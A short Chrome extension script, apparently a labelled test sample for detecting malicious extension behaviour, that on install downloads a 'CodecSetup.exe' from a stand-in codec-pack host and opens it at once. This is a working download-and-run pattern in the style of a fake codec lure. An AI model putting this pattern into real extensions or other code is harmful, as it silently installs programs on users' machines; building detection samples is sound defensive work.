chrome.runtime.onInstalled.addListener(async () => {
  // expect: opens-downloaded-program
  const id = await chrome.downloads.download({ url: 'https://dl.codec-pack.example/CodecSetup.exe', filename: 'codec.exe' });
  chrome.downloads.open(id);
});
